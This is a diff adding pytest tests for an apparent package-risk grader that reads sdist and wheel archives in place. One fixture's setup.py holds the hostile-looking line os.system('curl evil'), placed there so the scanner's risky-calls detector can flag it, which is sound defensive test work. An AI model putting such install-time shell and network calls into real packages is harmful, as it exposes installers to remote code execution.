@@ -0,0 +1,88 @@
+# coding=utf-8
+"""
+Reading sdists & wheels in place
+"""
+import io
+import os
+import tarfile
+import zipfile
+
+import pytest
+
+from cheese_grader.archives import ArchiveTree, TarTree, ZipTree, open_archive
+from cheese_grader.signals import Engine, PackageContext, Tier
+from cheese_grader.signals.source_signals import risky_calls
+
+FILES = {
+    "pkg-1.0/setup.py": "import os\nos.system('curl evil')\nsetup(name='pkg')\n",
+    "pkg-1.0/pkg/__init__.py": "x = 1\n",
+    "pkg-1.0/README.md": "# pkg\n",
+}
+
+
+def write_sdist(path):
+    with tarfile.open(path, mode="w:gz") as archive:
+        for name, text in FILES.items():
+            data = text.encode("utf-8")
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+
+
+def write_wheel(path):
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, text in FILES.items():
+            archive.writestr(name.split("/", 1)[1], text)
+
+
+def test_tar_and_zip_read_the_same(tmp_path):
+    sdist = str(tmp_path / "pkg-1.0.tar.gz")
+    wheel = str(tmp_path / "pkg-1.0-py3-none-any.whl")
+    write_sdist(sdist)
+    write_wheel(wheel)
+    for path, kind in [(sdist, TarTree), (wheel, ZipTree)]:
+        with open_archive(path) as tree:
+            assert isinstance(tree, kind)
+            assert tree.names() == ["README.md", "pkg/__init__.py", "setup.py"]
+            assert tree.read_text("pkg/__init__.py") == "x = 1\n"
+            assert tree.size("README.md") == 6
+            walked = dict(tree.walk(lambda name: name.endswith(".py")))
+            assert sorted(walked) == ["pkg/__init__.py", "setup.py"]
+
+
+def test_trees_must_implement_size_and_open():
+    with pytest.raises(TypeError):
+        ArchiveTree("any.zip")  # pylint: disable=abstract-class-instantiated
+
+
+def test_real_path_only_extracts_when_asked(tmp_path):
+    sdist = str(tmp_path / "pkg-1.0.tar.gz")
+    write_sdist(sdist)
+    tree = open_archive(sdist)
+    folder = tree.real_path()
+    assert os.path.isfile(os.path.join(folder, "pkg", "__init__.py"))
+    assert tree.real_path() == folder
+    tree.close()
+    assert not os.path.exists(folder)
+
+
+def test_source_signals(tmp_path):
+    sdist = str(tmp_path / "pkg-1.0.tar.gz")
+    write_sdist(sdist)
+    assert risky_calls(FILES["pkg-1.0/setup.py"]) == {"os.system"}
+    with open_archive(sdist) as tree:
+        context = PackageContext("pkg", metadata=None, archive=tree)
+        grade = Engine(max_tier=Tier.MEDIUM).grade(context)
+    # not on PyPI decides it before the archive is even looked at
+    assert "has_python" not in grade.signals
+
+    context = PackageContext(
+        "pkg", loaders={"archive": lambda _: open_archive(sdist)}
+    )
+    engine = Engine(
+        evaluators=[_ for _ in Engine().evaluators if _.tier == Tier.MEDIUM]
+    )
+    grade = engine.grade(context)
+    assert grade.signals["has_python"].reason == "1 python files"
+    assert grade.signals["setup_py_risk"].score == 0.0
+    context["archive"].close()